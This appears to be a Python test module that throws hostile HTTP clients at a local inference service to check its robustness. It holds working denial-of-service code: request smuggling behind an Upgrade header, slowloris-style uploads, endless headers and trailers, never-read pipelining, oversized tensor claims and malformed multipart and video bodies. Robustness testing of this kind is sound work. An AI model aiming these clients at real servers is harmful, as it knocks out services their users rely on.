"""What hostile clients do to a service, one connection a call. ``run`` repeats them in a process of its own.

``core`` are the attacks on how the service reads requests, each cheap for its client:

- smuggle: a request with ``Upgrade`` whose body is more requests;
- claim_clips: a v2 request that claims 17 clips and holds none;
- leave_tensors: a v2 body of 24 MB of numbers for one clip, which is read for nothing, as its client leaves;
- nearly_end_parts: a form of 2 MB that is full of text like its boundary, each three seconds: more would cost others as
  much without that text, because the part is decoded;
- endless_trailer: trailers of a chunked body without end;
- post_junk: videos that no decoder can decode, one a second, as each takes as much of the processor as a good one;
- pipeline_odd_requests: requests with odd paths behind one that is refused early.

``connections`` are those on connections and memory:

- endless_head: header lines without end;
- never_read: clients that pipeline requests and never read;
- upload_slowly: slow uploads of 60 MB, 2 MB a second each.
"""

import asyncio
import contextlib
import os
import socket
from collections.abc import Callable, Coroutine, Iterator, Mapping
from contextlib import contextmanager
from multiprocessing import get_context
from typing import Any

import uvloop

UPLOAD_BYTES, UPLOAD_PIECE, UPLOAD_PAUSE_S = 60_000_000, 200_000, 0.1
RECONNECT_S = 0.2
PATIENCE_S = 30
TENSORS = b'{"inputs":[{"name":"frames","shape":[1,40,224,224,3],"datatype":"UINT8","data":[' + b"123," * 6_000_000
NEARLY = (
    b"--b\r\nContent-Disposition: form-data; name=file; filename=a\r\n\r\n" + b"\r\n--b-" * 350_000 + b"\r\n--b--\r\n"
)
JUNK = b"\0\0\0\x18ftypisom\0\0\2\0isomiso2" + bytes(range(256)) * 64

Attack = Callable[[int], Coroutine[Any, Any, None]]


@contextmanager
def attacked(port: int, attacks: Mapping[Attack, int]) -> Iterator[None]:
    """Run attacks, each with a number of clients, until the block ends.

    They run at low priority in a process of their own, for they stand for other machines.
    """
    process = get_context("spawn").Process(target=run, args=(port, attacks), daemon=True)
    process.start()
    try:
        yield
    finally:
        process.kill()
        process.join()


def run(port: int, attacks: Mapping[Attack, int]) -> None:
    """Run the attackers until the process is killed. A client whose connection has ended connects again."""
    os.nice(19)
    uvloop.run(_run(port, attacks))


async def _run(port: int, attacks: Mapping[Attack, int]) -> None:
    async def repeat(attack: Attack) -> None:
        while True:
            with contextlib.suppress(OSError):
                await attack(port)
            await asyncio.sleep(RECONNECT_S)

    await asyncio.gather(*(repeat(attack) for attack, count in attacks.items() for _ in range(count)))


async def smuggle(port: int) -> None:
    """Hide requests in the body of one that offers another protocol."""
    hidden = b"GET /openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 50
    await _send(port, _post("/model", hidden, "Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings"))


async def claim_clips(port: int) -> None:
    """Claim a large tensor and send none."""
    body = b'{"inputs":[{"name":"frames","shape":[17,40,224,224,3],"datatype":"UINT8","data":[]}]}'
    await _send(port, _post("/v2/models/tiny/infer", body))


async def leave_tensors(port: int) -> None:
    """Upload a large tensor that turns out to be incomplete, 2 MB a second, and leave."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    with contextlib.closing(writer):
        await _upload(reader, writer, _post("/v2/models/tiny/infer", TENSORS))


async def nearly_end_parts(port: int) -> None:
    """Send a form whose file nearly holds the boundary again and again."""
    await _send(port, _post("/predict", NEARLY, "Content-Type: multipart/form-data; boundary=b"))
    await asyncio.sleep(3)


async def endless_trailer(port: int) -> None:
    """Send trailers until the server closes the connection."""
    _, writer = await asyncio.open_connection("127.0.0.1", port)
    with contextlib.closing(writer):
        writer.write(b"POST /predict HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n")
        while True:
            writer.write(b"X-Trailer: lime\r\n" * 1000)
            await writer.drain()


async def post_junk(port: int) -> None:
    """Send a video that no decoder can decode."""
    await _send(port, _post("/predict", JUNK, "Content-Type: video/mp4"))
    await asyncio.sleep(1)


async def pipeline_odd_requests(port: int) -> None:
    """Send requests with odd paths behind one that is refused before its body has arrived."""
    refused = b"POST /predict HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 999999999999\r\n\r\n"
    odd = b"POST /predict%%0A%%E2%%80%%A8%%C2%%85%%FF?%%FF HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: %d\r\n\r\n%b"
    await _send(port, refused + odd % (10, bytes(10)) * 20)
    await _send(port, odd % (10, bytes(10)) * 20)


def _post(path: str, body: bytes, *headers: str) -> bytes:
    head = "\r\n".join([f"POST {path} HTTP/1.1", "Host: 127.0.0.1", f"Content-Length: {len(body)}", *headers, "", ""])
    return head.encode() + body


async def _send(port: int, request: bytes) -> None:
    """Send a request and read until the server has nothing more to say."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    with contextlib.closing(writer), contextlib.suppress(TimeoutError):
        writer.write(request)
        await asyncio.wait_for(reader.read(2**16), PATIENCE_S)


async def _upload(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, data: bytes) -> None:
    """Send data slowly until the server answers or closes the connection."""
    answered = asyncio.create_task(reader.read(1))
    try:
        for start in range(0, len(data), UPLOAD_PIECE):
            writer.write(data[start : start + UPLOAD_PIECE])
            await writer.drain()
            await asyncio.wait([answered], timeout=UPLOAD_PAUSE_S)
            if answered.done():
                return
    finally:
        answered.cancel()


async def endless_head(port: int) -> None:
    """Send header lines until the server closes the connection."""
    _, writer = await asyncio.open_connection("127.0.0.1", port)
    with contextlib.closing(writer):
        writer.write(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        while True:
            writer.write(b"X-Header: lime\r\n" * 1000)
            await writer.drain()


async def never_read(port: int) -> None:
    """Pipeline requests without reading the answers until the server closes the connection."""
    loop = asyncio.get_running_loop()
    with socket.socket() as client:
        client.setblocking(False)
        await loop.sock_connect(client, ("127.0.0.1", port))
        while True:
            await loop.sock_sendall(client, b"GET /openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 20)


async def upload_slowly(port: int) -> None:
    """Upload a large body slowly until the server answers or closes the connection."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    with contextlib.closing(writer):
        await _upload(reader, writer, _post("/predict", bytes(UPLOAD_BYTES)))
        await reader.read(1)


CORE = (
    smuggle,
    claim_clips,
    leave_tensors,
    nearly_end_parts,
    endless_trailer,
    post_junk,
    pipeline_odd_requests,
)
